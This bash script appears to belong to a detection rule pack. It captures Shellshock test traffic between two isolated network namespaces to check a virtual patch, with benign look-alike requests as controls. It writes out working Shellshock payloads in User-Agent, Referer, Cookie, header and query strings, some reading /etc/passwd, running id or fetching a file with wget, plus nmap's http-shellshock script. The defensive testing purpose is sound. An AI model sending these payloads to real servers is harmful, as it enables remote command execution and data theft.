#!/usr/bin/env bash
# Captures the shellshock virtual patch's test traffic (attacks and benign look-alikes) from real clients.
# Clients (curl, nmap, python3) run in namespace tsv-web1-ss-c (198.18.3.21); rules/packs/traffic/
# http-ok.py answers every request with 200 in tsv-web1-ss-s (198.18.3.22); each scenario's
# client-side traffic becomes $OUT/NAME.pcap (OUT defaults to this folder). Run as root; the plumbing
# is rules/packs/traffic/netns.sh (198.18.0.0/15 only, nothing leaves the two namespaces).
. "$(dirname "$0")/../../../traffic/netns.sh"
OUT="${OUT:-$TSV_HERE}"
tsv_http_pair tsv-web1-ss-c 198.18.3.21/25 tsv-web1-ss-s 198.18.3.22/25 80
U="http://$TSV_SIP"

# Attacks: the classic User-Agent, Referer without spaces (CVE-2014-6278 style body), a Cookie, the
# CVE-2014-7169 variant, the query string (percent-encoded), and nmap's http-shellshock (User-Agent,
# Referer and Cookie at once).
tsv_scenario attack-ua curl -s "$U/cgi-bin/status" -A '() { :;}; echo; /bin/cat /etc/passwd'
tsv_scenario attack-referer-cookie curl -s "$U/cgi-bin/test.cgi" -e '(){ _; } >_[$($())] { id; }' -H 'Cookie: () { :; }; /usr/bin/wget -qO- http://198.18.3.21/x'
tsv_scenario attack-7169 curl -s "$U/cgi-bin/printenv" -H "X-Forwarded-For: () { (a)=>\\' bash -c \"echo date\""
tsv_scenario attack-query curl -s --path-as-is "$U/cgi-bin/test.cgi?%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fid"
tsv_scenario attack-nmap nmap -Pn -n -sT -p80 --script http-shellshock --script-args uri=/cgi-bin/test.cgi "$TSV_SIP"
# Benign: JavaScript with "function () {" posted to a paste site and in a header, parentheses in a query.
tsv_scenario benign-code curl -s "$U/paste" -H 'X-Snippet: function () { return 42; }' --data-urlencode 'code=const f = function () { return (a) => { a(); }; }; f()();'
tsv_scenario benign-query curl -s "$U/cgi-bin/search.cgi?q=f%28%29+%7B+body+%7D&lang=js"
